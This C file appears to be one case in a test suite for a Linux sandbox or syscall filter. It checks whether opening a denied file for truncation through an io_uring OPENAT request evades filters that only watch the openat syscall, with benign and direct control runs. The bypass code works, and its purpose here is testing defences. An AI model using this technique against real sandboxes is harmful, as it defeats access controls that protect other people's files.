// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: an open asked for through a ring is judged like an open (catalogue C5).
 *
 *	ring: IORING_OP_OPENAT, DENIED
 *	io_uring_enter()		the kernel opens; no openat is ever entered
 *
 * The denied act is to open for truncation, which filters on registers can tell
 * too; its twin appends, by a plain open, because refusing rings altogether is a
 * sound defence. A win replaces the content of the denied file by the nonce.
 */
#include "attack.h"

#include <linux/io_uring.h>

struct ring {
	int fd;
	struct io_uring_params params;
	char *submissions;
	char *completions;
	struct io_uring_sqe *entries;
};

static void *ring_map(const struct ring *ring, size_t size, off_t offset)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
			    ring->fd, offset);

	if (memory == MAP_FAILED)
		broken("mmap of the ring: %s", strerror(errno));
	return memory;
}

/* False, with errno, when this kernel or somebody in between gives no ring. */
static bool ring_make(struct ring *ring)
{
	const struct io_uring_params *params = &ring->params;

	memset(ring, 0, sizeof(*ring));
	ring->fd = (int)syscall(SYS_io_uring_setup, JUNK(1), &ring->params);
	if (ring->fd < 0)
		return false;
	ring->submissions = ring_map(ring, params->sq_off.array + params->sq_entries * 4,
				     IORING_OFF_SQ_RING);
	ring->completions = ring_map(ring, params->cq_off.cqes +
				     params->cq_entries * sizeof(struct io_uring_cqe),
				     IORING_OFF_CQ_RING);
	ring->entries = ring_map(ring, params->sq_entries * sizeof(struct io_uring_sqe),
				 IORING_OFF_SQES);
	return true;
}

/* The descriptor, or -1 with errno. */
static int ring_open(struct ring *ring, const char *name)
{
	const struct io_uring_params *params = &ring->params;
	_Atomic uint32_t *tail = (void *)(ring->submissions + params->sq_off.tail);
	uint32_t *slots = (void *)(ring->submissions + params->sq_off.array);
	const struct io_uring_cqe *completion =
		(void *)(ring->completions + params->cq_off.cqes);

	ring->entries[0] = (struct io_uring_sqe) {
		.opcode = IORING_OP_OPENAT,
		.fd = way_from,
		.addr = (uintptr_t)name,
		.open_flags = O_WRONLY | O_TRUNC,
	};
	slots[0] = 0;
	atomic_fetch_add(tail, 1);
	if (syscall(SYS_io_uring_enter, JUNK(ring->fd), JUNK(1), JUNK(1),
		    JUNK(IORING_ENTER_GETEVENTS), NULL, 0ul) < 0)
		return -1;
	errno = completion->res < 0 ? -completion->res : 0;
	return completion->res < 0 ? -1 : completion->res;
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);
	struct ring ring;

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_write(&run, run.allowed, O_APPEND);
		break;
	case MODE_DIRECT:
		run_plain_write(&run, run.denied, O_TRUNC);
		break;
	case MODE_ATTACK:
		run.attempts = 1;
		run_opened_to_write(&run, ring_make(&ring) ? ring_open(&ring, run.denied) : -1);
		break;
	}
	run_end(&run);
}
